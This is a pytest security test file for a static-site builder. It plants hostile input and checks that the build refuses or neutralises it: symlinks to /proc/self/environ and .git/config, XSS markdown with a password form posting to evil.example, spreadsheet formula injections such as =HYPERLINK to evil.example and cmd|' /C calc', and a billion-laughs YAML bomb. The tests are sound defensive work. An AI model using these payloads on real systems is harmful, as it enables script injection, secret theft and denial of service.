"""Hostile, broken and huge input, one case per kind of attack or slip, fed to a real check or build.

Each test asserts one of three outcomes: a located problem
(``path:line:column: what is wrong; what is allowed``, exit 1, nothing
published), a safe output, or no leak (the whole ``site/`` searched for a
planted secret). Every guard these tests rely on was removed once to watch
its test fail (see the notes on each test).
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import http.server
import io
import logging
import os
import re
import resource
import signal
import socketserver
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from conftest import EXPORT_EVENTS, NOW, ROOT, build_site, drop_attendance_rows, problems, run_cli

EVENT = "data/events/2025-26/strengths-based-practice-2026-03.yml"
SECRET = "planted-secret-7f3a9c1e"
OUTSIDE = "outside data/, content/, theme/"
LOCATED = re.compile(r"^(?P<path>[^:\s]+):(?P<line>\d+):(?P<column>\d+): (?P<message>.+)$", re.M)


def replace(project: Path, relative: str, old: str, new: str) -> None:
    path = project / relative
    text = path.read_text(encoding="utf-8")
    assert old in text, (relative, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def located(output: str, path: str, needle: str) -> re.Match[str]:
    """The located problem about ``path`` whose message contains ``needle``."""
    for match in LOCATED.finditer(output):
        if match["path"] == path and needle in match["message"]:
            return match
    raise AssertionError(f"no problem at {path} saying {needle!r} in:\n{output}")


def refused(result: subprocess.CompletedProcess[str]) -> str:
    """The output of a command that must have failed cleanly: exit 1, no traceback, nothing published."""
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert "Traceback" not in output, output
    return output


def tree(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


def grep_tree(folder: Path, needle: bytes) -> list[str]:
    return [p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file() and needle in p.read_bytes()]


# -- Nothing outside the project is read or published -------------------------------------------


@pytest.mark.parametrize(
    ("where", "make", "needle"),
    [
        pytest.param("data/events/env.yml", lambda p, t: t.symlink_to("/proc/self/environ"), OUTSIDE, id="data-proc-environ"),
        pytest.param("content/environment.txt", lambda p, t: t.symlink_to("/proc/self/environ"), OUTSIDE, id="content-proc-environ"),
        pytest.param("content/git-config.txt", lambda p, t: t.symlink_to(p / ".git/config"), OUTSIDE, id="content-git-config"),
        pytest.param("theme/assets/token.txt", lambda p, t: t.symlink_to(p / ".git/config"), OUTSIDE, id="theme-git-config"),
        pytest.param("content/etc", lambda p, t: t.symlink_to("/etc"), OUTSIDE, id="content-folder-outside"),
        pytest.param("content/pictures", lambda p, t: t.symlink_to(p / "content/assets"), "a link to a folder", id="content-folder-inside"),
        pytest.param("data/events/gone.yml", lambda p, t: t.symlink_to(p / "data/events/nothing.yml"), "leads nowhere", id="dangling"),
        pytest.param("data/attendance/2023-24.csv", lambda p, t: t.symlink_to("/dev/zero"), OUTSIDE, id="dev-zero"),
        pytest.param("data/events/pipe.yml", lambda p, t: os.mkfifo(t), "a named pipe (FIFO)", id="data-fifo"),
        pytest.param("content/pipe.md", lambda p, t: os.mkfifo(t), "a named pipe (FIFO)", id="content-fifo"),
    ],
)
def test_links_out_pipes_and_devices_are_located_problems_and_never_wait(project: Path, where: str, make, needle: str) -> None:
    """Guard: sources.files.SourceFiles.check (made to return True: the pipes hang check, /proc is read)."""
    (project / ".git").mkdir()
    (project / ".git/config").write_text(f"[http]\n\textraheader = AUTHORIZATION: basic {SECRET}\n")
    make(project, project / where)
    result = run_cli(project, "check", timeout=60)  # a check that waits on the pipe or device never returns: TimeoutExpired
    match = located(refused(result), where, needle)
    assert (match["line"], match["column"]) == ("1", "1")


@pytest.mark.slow
def test_a_secret_behind_a_link_never_reaches_the_site(project: Path) -> None:
    """A link to the build's environment (its secrets, on CI) and to .git/config: the build stops, site/ keeps no secret.

    Guard: SourceFiles.check (removed, the build publishes both files and the secret is found in site/).
    """
    (project / ".git").mkdir()
    (project / ".git/config").write_text(f"[http]\n\textraheader = AUTHORIZATION: basic {SECRET}\n")
    first = build_site(project, "--no-pdf")  # the last good site; the build under test runs as a new process
    assert first.returncode == 0, first.stdout + first.stderr
    (project / "content/environment.txt").symlink_to("/proc/self/environ")
    (project / "content/config.txt").symlink_to(project / ".git/config")
    env = dict(os.environ, PARTNERSHIP_ROOT=str(project), PARTNERSHIP_NOW=NOW, CI_DEPLOY_TOKEN=SECRET)
    result = subprocess.run(
        [sys.executable, "-m", "partnership.cli", "build", "--no-pdf"], cwd=project, env=env, capture_output=True, text=True, timeout=600
    )
    output = refused(result)
    located(output, "content/environment.txt", "outside data/, content/, theme/")
    located(output, "content/config.txt", "outside data/, content/, theme/")
    assert grep_tree(project / "site", SECRET.encode()) == []
    assert not any(p.name.startswith(".site-") for p in project.iterdir())


@pytest.mark.slow
def test_a_pdf_never_fetches_from_elsewhere(project: Path, caplog: pytest.LogCaptureFixture) -> None:
    """An image on another server in a report narrative: check names it, and WeasyPrint's fetcher never asks for it.

    Guard: outputs.pdf.SiteFiles (without it, WeasyPrint requests the image from the server).
    """
    requests: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = socketserver.TCPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    image = f"http://127.0.0.1:{server.server_address[1]}/tracker.png"
    try:
        narrative = project / "content/reports/2025-26/income.md"
        narrative.write_text(narrative.read_text() + f"\n![Income chart]({image})\n")
        result = run_cli(project, "build")
        match = located(refused(result), "content/reports/2025-26/income.md", "is on another site")
        assert int(match["line"]) == len(narrative.read_text().splitlines())
        assert not (project / "site").exists()

        from partnership.core.outputs.pdf import html_to_pdf

        html = f'<html lang="en"><head><title>t</title></head><body><p>x</p><img alt="c" src="{image}"><img alt="p" src="file:///etc/passwd"></body></html>'
        with caplog.at_level(logging.WARNING, logger="partnership.pdf"):
            pdf = html_to_pdf(html, project / "content", "https://rdtp.example.org/", "reports/2025-26/report.pdf")
        assert pdf.startswith(b"%PDF")
        assert f"reports/2025-26/report.pdf: left out {image}" in caplog.text
        assert "left out file:///etc/passwd" in caplog.text
    finally:
        server.shutdown()
    assert requests == []


# -- No script runs unless the project wrote it ---------------------------------------------------

HOSTILE_MARKDOWN = """
<script>alert("content")</script>

<img src="x.png" onerror="alert(2)">

<iframe src="https://evil.example/"></iframe>

[Click here](javascript:alert(3))

A paragraph with an event handler.
{: onclick="alert(4)" }

<form action="https://evil.example/"><input name="password"></form>
"""


def test_raw_html_that_the_site_would_remove_is_a_located_problem(project: Path) -> None:
    """Guard: content.html_problems (without it, check passes and the tags vanish without a word)."""
    path = "content/reports/2025-26/placements.md"
    before = len((project / path).read_text().splitlines())
    (project / path).write_text((project / path).read_text() + HOSTILE_MARKDOWN)
    (project / "content/about.md").write_text("# About\n\nSee `<script>` in code: fine.\n\n<script>alert(1)</script>\n")
    output = refused(run_cli(project, "check"))
    assert located(output, path, "<script> is not allowed")["line"] == str(before + 2)
    match = located(output, path, "onerror= on <img> runs script")
    assert (match["line"], match["column"]) == (str(before + 4), "18")
    assert located(output, path, "<iframe> is not allowed")["line"] == str(before + 6)
    assert located(output, path, "javascript: address")["line"] == str(before + 8)
    assert located(output, path, "onclick= on <p> runs script")["line"] == str(before + 11)
    assert located(output, path, "<form> is not allowed")["line"] == str(before + 13)
    assert located(output, "content/about.md", "<script> is not allowed")["line"] == "5"
    assert len([m for m in LOCATED.finditer(output) if m["path"] == "content/about.md"]) == 1, "code spans are not HTML"


def test_markdown_in_data_that_the_site_would_leave_out_is_a_located_problem(project: Path) -> None:
    """An event description's javascript: link and tracking image. Guard: the description rule in checks.event (text_findings)."""
    replace(project, EVENT, "description: |\n", "description: |\n  [Book](javascript:alert(1)) ![](https://tracker.example/p.png)\n\n")
    found = [p for p in problems(project) if p.startswith(f"{EVENT}:6:14: description: ")]
    assert len(found) == 2 and "javascript: address" in found[0] and "is on another site" in found[1], found


def test_the_sanitiser_removes_what_runs_and_keeps_what_markdown_makes() -> None:
    """Guard: present.safehtml.clean in NarrativeRenderer.render (without it, the script reaches the page)."""
    from partnership.core.present.markdown import NarrativeRenderer

    renderer = NarrativeRenderer("", lambda target: target, lambda target, page: target)
    html = str(renderer.render(HOSTILE_MARKDOWN + "\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\nNote[^1]\n\n[^1]: A footnote.\n", "x.md", "s"))
    for gone in ("<script", "onerror", "<iframe", "javascript:", "onclick", "<form", "<input"):
        assert gone not in html, gone
    for kept in ('<img src="x.png">', '<th style="text-align:left">', 'class="footnote-ref"', "<a>Click here</a>"):
        assert kept in html, kept


def test_the_policy_hashes_only_the_theme_scripts(built: Path) -> None:
    """A script that reaches a page from content gets no hash, so the browser will not run it.

    Guard: ThemeScripts.owns in security.policy (without it, every inline script is hashed).
    """
    from partnership.core.html.security import ThemeScripts, policy

    page = (built / "reports/2025-26/index.html").read_text()
    theme = ThemeScripts.from_folders(theme_folders())
    allowed = set(re.findall(r"'sha256-[^']+'", policy(page, theme)))
    published = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)
    assert published and allowed == set(re.findall(r"'sha256-[^']+'", published.group(1))) and len(allowed) == 2
    injected = page.replace("</article>", "<script>alert(document.cookie)</script></article>", 1)
    assert set(re.findall(r"'sha256-[^']+'", policy(injected, theme))) == allowed
    lookalike = page.replace("</article>", '<script>__md_scope=new URL("x",location);alert(1)</script></article>', 1)
    assert set(re.findall(r"'sha256-[^']+'", policy(lookalike, theme))) == allowed


def theme_folders() -> list[Path]:
    import material

    return [ROOT / "theme", Path(material.__file__).parent / "templates"]


# -- Downloads are safe to open -------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/","Click")', "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1"]


@pytest.mark.slow
def test_spreadsheet_cells_never_hold_formulas(project: Path) -> None:
    """Guard: outputs.cells.csv_cell and text_not_formulas (without them, the cells start with = and are formulas in Excel)."""
    import openpyxl

    replace(project, "data/metrics/income.yml", "name: Partner membership fees", f"name: {yaml_quote(FORMULAS[0])}")
    replace(project, "data/metrics/income.yml", "2021-22: 96000,", f"2021-22: {{value: -96000, note: {yaml_quote(FORMULAS[1])}}},")
    courses, grant = yaml_quote(FORMULAS[2] + " courses"), yaml_quote(FORMULAS[3] + " grant")
    replace(project, "data/metrics/income.yml", "name: Income from courses", f"name: {courses}\n    description: Income from courses")
    replace(
        project, "data/metrics/income.yml", "name: Department for Education", f"name: {grant}\n    description: Department for Education"
    )
    replace(project, "data/frameworks/pcf.yml", "    title: Values and Ethics", f"    title: {yaml_quote(FORMULAS[0])}")
    replace(
        project,
        "data/frameworks/pcf.yml",
        "      asye: Manages ethical tensions in complex work and promotes people's rights to choice.",
        f"      asye: {yaml_quote(FORMULAS[0])}",
    )
    result = build_site(project, "--no-pdf")
    assert result.returncode == 0, result.stdout + result.stderr
    rows = list(csv.DictReader(io.StringIO((project / "site/reports/2025-26/data/income.csv").read_text(encoding="utf-8"))))
    names = {row["measure"] for row in rows}
    assert "'" + FORMULAS[0] in names
    assert any(name.startswith("'" + FORMULAS[2]) for name in names) and any(name.startswith("'" + FORMULAS[3]) for name in names)
    assert {row["note"] for row in rows if row["note"]} == {"'" + FORMULAS[1]}
    assert "-96000" in {row["value"] for row in rows}, "numbers stay numbers"
    assert not [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r" and not re.fullmatch(r"-[\d.]+%?", cell)]
    workbook = openpyxl.load_workbook(project / "site/toolkit/evidence-grid.xlsx")
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value]
    formulas = [c for c in cells if c.data_type == "f"]
    assert all(
        (c.row == 1 and re.fullmatch(r"='Cover'!\$B\$\d+&\"\"", c.value))
        or re.fullmatch(r"=COUNTIF\('Evidence log'!\$[A-Z]+\$3:\$[A-Z]+\$152,\"Yes\"\)", c.value)
        for c in formulas
    ), "only the names from the cover and the counts from the evidence log"
    assert any(FORMULAS[0] in str(c.value) and c.data_type == "s" for c in cells)
    assert [c.data_type for c in cells if c.value == FORMULAS[0]] == ["s"], "a descriptor starting with = is a string cell"


def yaml_quote(text: str) -> str:
    import yaml

    return yaml.safe_dump(text, default_style='"', width=1000).strip()


# -- The import never writes personal data --------------------------------------------------------


def test_the_import_leaves_out_rows_that_could_hold_personal_data(project: Path, tmp_path: Path) -> None:
    """Guard: the unreadable-row rules in core.load.importing.aggregate (without them, the shifted name and e-mails are written)."""
    export = (ROOT / "tests/fixtures/eventbrite-attendees.csv").read_text(encoding="utf-8").splitlines()
    bad = [
        "2001,2026-01-10 10:00,Ann,Commaname, Jr,ann.c@example.org,1,Partner staff,1,Attending,Yes,Strengths-Based Practice,Harbour Family Trust,SW",
        "2002,2026-01-10 10:00,Bob,Shortrow,bob.s@example.org,1,Partner staff,1,Attending,Yes,Strengths-Based Practice",
        "2003,2026-01-10 10:00,Cat,Mailer,cat.m@example.org,1,Partner staff,1,Attending,Yes,dan.leak@example.org,Harbour Family Trust,SW",
        "2004,2026-01-10 10:00,Eve,Namer,eve.n@example.org,1,Partner staff,1,Attending,Yes,Mei Testwood,Harbour Family Trust,SW",
        "2005,2026-01-10 10:00,Fay,Orgmail,fay.o@example.org,1,Partner staff,1,Attending,Yes,Strengths-Based Practice,fay.o@example.org,SW",
        "2006,2026-01-10 10:00,Gus,Orgname,gus.o@example.org,1,Partner staff,1,Attending,Yes,Strengths-Based Practice,Priya Invented,SW",
    ]
    path = tmp_path / "export.csv"
    path.write_text("\n".join(export + bad) + "\n", encoding="utf-8")
    drop_attendance_rows(project, "2025-26", EXPORT_EVENTS)
    result = run_cli(project, "import-attendance", str(path), "--year", "2025-26")
    assert result.returncode == 0, result.stdout + result.stderr
    first = len(export) + 1
    assert "6 rows could not be read safely and were left out" in result.stdout
    for offset, why in enumerate(
        [
            "the row has 14 cells but the header has 13",
            "the row has 11 cells but the header has 13",
            "its event looks like an e-mail address",
            "its event is a person's name or e-mail address from the export",
            "its organisation looks like an e-mail address",
            "its organisation is a person's name or e-mail address from the export",
        ]
    ):
        assert f"line {first + offset}: {why}" in result.stdout
    written = (project / "data/attendance/2025-26.csv").read_text()
    for word in ("@", "Jr", "Commaname", "Testwood", "Invented", "leak", "Orgname"):
        assert word not in written and word not in result.stdout.replace("e-mail", ""), word
    rows = list(csv.DictReader(io.StringIO(written)))
    strengths = [r for r in rows if r["event"] == "strengths-based-practice-2026-03"]
    assert (
        sum(int(r["booked"]) for r in strengths) == sum(1 for line in export if ",Strengths-Based Practice," in line) - 1
    )  # one duplicate


# -- Bounded time and memory ----------------------------------------------------------------------

LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)
)


@pytest.mark.parametrize(
    ("text", "needle", "line"),
    [
        pytest.param(LAUGHS, "more than 100,000 values once its aliases", 1, id="billion-laughs"),
        pytest.param("title: x\nitems: " + "[" * 100_000 + "]" * 100_000 + "\n", "nested more than 50 levels deep", 2, id="deep-brackets"),
        pytest.param("title: x\nitems:\n" + "- " * 100_000 + "x\n", "nested more than 50 levels deep", 3, id="deep-dashes"),
        pytest.param("x: &x 1\ny: [" + ", ".join(["*x"] * 101) + "]\n", "more than 100 aliases", 2, id="many-aliases"),
    ],
)
def test_yaml_that_would_explode_or_crash_is_a_located_problem_in_a_second(project: Path, text: str, needle: str, line: int) -> None:
    """Guard: yamlsource's depth, alias and expansion limits (without them: gigabytes, or libyaml's recursion crashes Python)."""
    (project / EVENT).write_text(text)
    started = time.process_time()
    found = problems(project)
    # Processor time, not the wall clock (a busy machine stretches that): without the limits this is
    # minutes of work and gigabytes, or libyaml's recursion crashes Python; with them, a fraction of a second.
    assert time.process_time() - started < 10
    assert [p for p in found if p.startswith(f"{EVENT}:{line}:") and needle in p], found


@pytest.mark.parametrize(
    ("relative", "content"),
    [
        (EVENT, "title: x\ndescription: |\n" + "  a long description\n" * 60_000),
        ("data/attendance/2025-26.csv", "event,partner,booked,attended,cancelled,no_show\n" + "x,other,1,1,0,0\n" * 400_000),
        ("content/about.md", "# About\n\n" + "A very long page.\n" * 70_000),
    ],
    ids=["yaml", "csv", "markdown"],
)
def test_files_above_their_size_limit_are_refused_before_reading(project: Path, relative: str, content: str) -> None:
    """Guard: the size limit in SourceFiles.read (without it, the files are read and parsed whole)."""
    (project / relative).write_text(content)
    found = problems(project)
    assert [p for p in found if p.startswith(f"{relative}:1:1: this file is") and "more than the" in p], found


# -- No tracebacks --------------------------------------------------------------------------------

SESSION = "start: 2026-03-04T09:30, end: 2026-03-04T16:30"


@pytest.mark.parametrize(
    ("relative", "old", "new", "needle"),
    [
        (EVENT, SESSION, "start: 2026-04-22T09:30:00Z, end: 2026-04-22T16:30", "has a time zone"),
        (EVENT, SESSION, "start: 2026-04-22T09:30:00+05:00, end: 2026-04-22T16:30", "has a time zone"),
        (EVENT, SESSION, "start: 2026-03-04, end: 2026-03-04T16:30", "is a date without a time"),
        (EVENT, SESSION, "start: 0001-03-04T09:30, end: 0001-03-04T16:30", "outside the years the site accepts"),
        (EVENT, SESSION, "start: 9999-03-04T09:30, end: 9999-03-04T16:30", "outside the years the site accepts"),
        (EVENT, "capacity: 25", "capacity: 25\nbooking_closes: 0202-03-01", "outside the years the site accepts"),
        ("data/reports/2025-26.yml", "start: 2025-04-01", "start: 0001-04-01", "outside the years the site accepts"),
        ("data/metrics/income.yml", "2021-22: 498000", "1900-01: 5, 2021-22: 498000", "outside the years the site accepts"),
        ("data/metrics/placements.yml", "2021-22: 142", "2021-22: .inf", "is not an ordinary number"),
        ("data/metrics/income.yml", "2021-22: 498000", "2021-22: .nan", "is not an ordinary number"),
        ("data/metrics/income.yml", "2021-22: 96000", "2021-22: {by: {ba: -.inf}}", "is not an ordinary number"),
        ("data/metrics/income.yml", "2021-22: 96000", "2021-22: {value: .NaN}", "is not an ordinary number"),
        (EVENT, "capacity: 25", "capacity: .inf", "must be an ordinary number"),
        (EVENT, "cpd_hours: 6", "cpd_hours: .nan", "must be an ordinary number"),
        ("data/attendance/2025-26.csv", ",20,10,", ",2²,10,", "is not a count"),
        ("data/attendance/2025-26.csv", ",20,10,", ",٢٠,10,", "is not a count"),
        ("data/metrics/income.yml", "2021-22: 498000", "٢٠١٩-٢٠: 5, 2021-22: 498000", "is not a year"),
        ("data/logic-model/2024-26.yml", "period: 2024-26", "period: 0001-03", "is not a period"),
        ("data/logic-model/2024-26.yml", "period: 2024-26", "period: 2024-2026", "is not a period"),
    ],
    ids=[
        "time-zone-z",
        "time-zone-offset",
        "date-without-time",
        "year-0001",
        "year-9999",
        "year-0202",
        "report-year-0001",
        "measure-year-1900",
        "inf-percent",
        "nan-gbp",
        "minus-inf-split",
        "nan-value",
        "inf-capacity",
        "nan-cpd-hours",
        "superscript-digit",
        "arabic-digits",
        "arabic-year",
        "period-0001",
        "period-not-a-period",
    ],
)
def test_values_the_rules_do_not_accept_are_located_problems(project: Path, relative: str, old: str, new: str, needle: str) -> None:
    """Guards: DataModel's date validators, allow_inf_nan=False and metrics._number, the ASCII-digit rules (each removed: a traceback or silence)."""
    replace(project, relative, old, new)
    output = refused(run_cli(project, "check"))
    assert [m for m in LOCATED.finditer(output) if m["path"] == relative and needle in m["message"]], output


def test_content_at_addresses_the_site_makes_are_all_located_by_check(project: Path) -> None:
    """Guard: addresses.clashes in check (without it, check passes and the build finds one clash, without a line)."""
    (project / "content/calendar.ics").write_text("BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n")
    (project / "content/events.json").write_text("{}")
    (project / "content/events").mkdir()
    (project / "content/events/strengths-based-practice-2026-03.md").write_text("# Mine\n")
    (project / "content/reports/2025-26/report.pdf").write_bytes(b"%PDF-1.4")
    output = refused(run_cli(project, "check"))
    located(output, "content/calendar.ics", "where the site makes /calendar.ics")
    located(output, "content/events.json", "where the site makes /events.json")
    located(output, "content/events/strengths-based-practice-2026-03.md", "the page /events/strengths-based-practice-2026-03/")
    located(output, "content/reports/2025-26/report.pdf", "the 2025-26 report as a PDF")


def test_a_file_at_the_editors_addresses_is_located_by_check(project: Path) -> None:
    """Guard: the browser editor's files are in the manifest (the editor wrote them over a hand-written page after
    the build, and only warned)."""
    (project / "content/admin").mkdir()
    (project / "content/admin/index.md").write_text("# Our admin page\n")
    (project / "content/admin/config.json").write_text("{}")
    output = refused(run_cli(project, "check"))
    located(output, "content/admin/index.md", "where the site makes /admin/index.html, the browser editor")
    located(output, "content/admin/config.json", "where the site makes /admin/config.json, the browser editor")


def test_generated_addresses_are_what_the_build_writes(built: Path) -> None:
    """The build's manifest (the addresses check holds hand-written files to) must list every file the writer writes, and nothing it does not."""
    from partnership.core import clock
    from partnership.core.load import load_dataset
    from partnership.core.present.siteviews import SiteViews

    project = built.parent
    views = SiteViews.compute(load_dataset(project / "data", project / "content"), clock.parse_now(NOW))
    listed = {file.path for file in views.files}
    written = {
        p.relative_to(built).as_posix()
        for p in built.rglob("*")
        if p.suffix in (".ics", ".pdf", ".csv", ".xlsx", ".docx", ".zip", ".xml") or (p.parent.name == "schema" and p.suffix == ".json")
    }
    written |= {"events.json", "assets/stylesheets/brand.css"}
    written -= {"sitemap.xml"}
    assert listed == written


@pytest.mark.parametrize(
    ("now", "needle"), [("garbage", "is not a date"), ("2026-13-45", "is not a date"), ("0001-01-01", "is outside the years")]
)
def test_a_clock_that_is_not_a_date_is_one_plain_line(project: Path, now: str, needle: str) -> None:
    """Guard: the clock check at the start of cli.main (without it, a traceback from fromisoformat)."""
    result = run_cli(project, "build", "--no-pdf", now=now)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"PARTNERSHIP_NOW={now!r} {needle}"), lines


@pytest.mark.slow
def test_a_full_disk_is_one_plain_line_and_leaves_the_site(project: Path) -> None:
    """Files that cannot be written (a full disk; here the file-size limit, which fails writes the same way).

    Guard: the OSError handler in cli.cmd_build (without it, a traceback).
    """
    first = build_site(project, "--no-pdf")  # the last good site; the build under test runs as a new process
    assert first.returncode == 0
    before = tree(project / "site")

    def small_files() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000))

    env = dict(os.environ, PARTNERSHIP_ROOT=str(project), PARTNERSHIP_NOW=NOW)
    result = subprocess.run(
        [sys.executable, "-m", "partnership.cli", "build", "--no-pdf"],
        cwd=project,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
        preexec_fn=small_files,
    )
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.startswith("The build failed: File too large (")
    assert "Nothing was published; site/ is unchanged." in result.stderr
    assert tree(project / "site") == before
    assert not any(p.name.startswith(".site-") for p in project.iterdir())


def test_an_unreadable_file_is_a_located_problem(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The tests run as root, who can read anything, so reading is made to fail as it does for others."""
    real_open = os.open
    target = os.path.realpath(project / EVENT)

    def deny(path: str, flags: int, *args: int) -> int:
        if os.fspath(path) == target:
            raise PermissionError(13, "Permission denied", path)
        return real_open(path, flags, *args)

    monkeypatch.setattr(os, "open", deny)
    assert f"{EVENT}:1:1: this file cannot be read: Permission denied" in problems(project)


# -- Publishing survives a crash at any instant ---------------------------------------------------


@pytest.mark.slow
def test_publishing_survives_a_kill_at_every_stage(project: Path) -> None:
    """Killed at each named stage, site/ is always a whole site, old or new, and the next build cleans up.

    Guard: publish.swap's exchange and publish.recover (with the two-rename path and no recovery, the
    "moved-old" kill leaves no site/ and a stranded .site-old-*).
    """
    first = build_site(project, "--no-pdf")  # the last good site; the build under test runs as a new process
    assert first.returncode == 0, first.stdout + first.stderr
    old = tree(project / "site")
    replace(project, EVENT, "title: Strengths-Based Practice", "title: Strengths-Based Practice Revisited")
    said = ""
    for stage, exchange in [("started", True), ("built", True), ("exchanged", True), ("moved-old", False), ("published", False)]:
        env = {"PARTNERSHIP_TEST_KILL_AT": stage, **({} if exchange else {"PARTNERSHIP_TEST_NO_EXCHANGE": "1"})}
        killed = subprocess.run(
            [sys.executable, "-m", "partnership.cli", "build", "--no-pdf"],
            cwd=project,
            env=dict(os.environ, PARTNERSHIP_ROOT=str(project), PARTNERSHIP_NOW=NOW, **env),
            capture_output=True,
            text=True,
            timeout=600,
        )
        assert killed.returncode == -signal.SIGKILL, (stage, killed.stderr)
        said += killed.stdout
        if stage == "moved-old":
            assert not (project / "site").exists(), "the portable path has no site/ for this instant"
        else:
            now = tree(project / "site")
            page = (project / "site/events/strengths-based-practice-2026-03/index.html").read_text()
            assert now == old or (set(now) == set(old) and "Revisited" in page), stage
    recovered = run_cli(project, "build", "--no-pdf")
    assert recovered.returncode == 0, recovered.stdout + recovered.stderr
    said += recovered.stdout
    assert "put back the last published site" in said, "the build after the moved-old kill restores the old site"
    assert said.count("left by a build that was stopped") >= 4
    assert not any(p.name.startswith(".site-") for p in project.iterdir())
    assert "Revisited" in (project / "site/events/strengths-based-practice-2026-03/index.html").read_text()


# -- Small silent errors become problems ----------------------------------------------------------


@pytest.mark.parametrize(
    ("edit", "path", "needle"),
    [
        (
            lambda p: replace(p, EVENT, "provider: riverside-adults", "provider_name: Riverside Adults"),
            EVENT,
            "same address as the partner",
        ),
        (lambda p: (p / EVENT).rename(p / "data/events/2025-26/con.yml"), "data/events/2025-26/con.yml", "a name Windows keeps"),
        (lambda p: replace(p, "data/pathways.yml", "- id: student", "- id: aux"), "data/pathways.yml", "a name Windows keeps"),
        (lambda p: replace(p, EVENT, SESSION, "start: 2026-03-29T01:30, end: 2026-03-29T04:00"), EVENT, "does not exist in the UK"),
        (lambda p: replace(p, EVENT, SESSION, "start: 2026-10-25T01:30, end: 2026-10-25T04:00"), EVENT, "happens twice in the UK"),
    ],
    ids=["provider-name-is-a-partner", "con", "aux", "dst-gap", "dst-repeat"],
)
def test_small_silent_errors_are_problems(project: Path, edit, path: str, needle: str) -> None:
    """Guards: the provider_name rule in checks.event, WINDOWS_RESERVED in _check_slug, clock.clock_change."""
    edit(project)
    assert [p for p in problems(project) if p.startswith(path + ":") and needle in p]


def test_cpd_hours_are_real_elapsed_time_across_a_clock_change(project: Path) -> None:
    """22:00 to 06:00 on the night the clocks go back is nine hours, not eight. Guard: clock.elapsed_hours."""
    from partnership.core.load import load_dataset
    from partnership.core.views.events import event_view

    replace(project, EVENT, SESSION, "start: 2026-10-24T22:00, end: 2026-10-25T06:00")
    replace(project, EVENT, "cpd_hours: 6\n", "")
    dataset = load_dataset(project / "data", project / "content")
    view = event_view(dataset.event_by_id["strengths-based-practice-2026-03"], dataset, dt.datetime(2026, 11, 22, tzinfo=dt.UTC))
    assert view.hours == 9
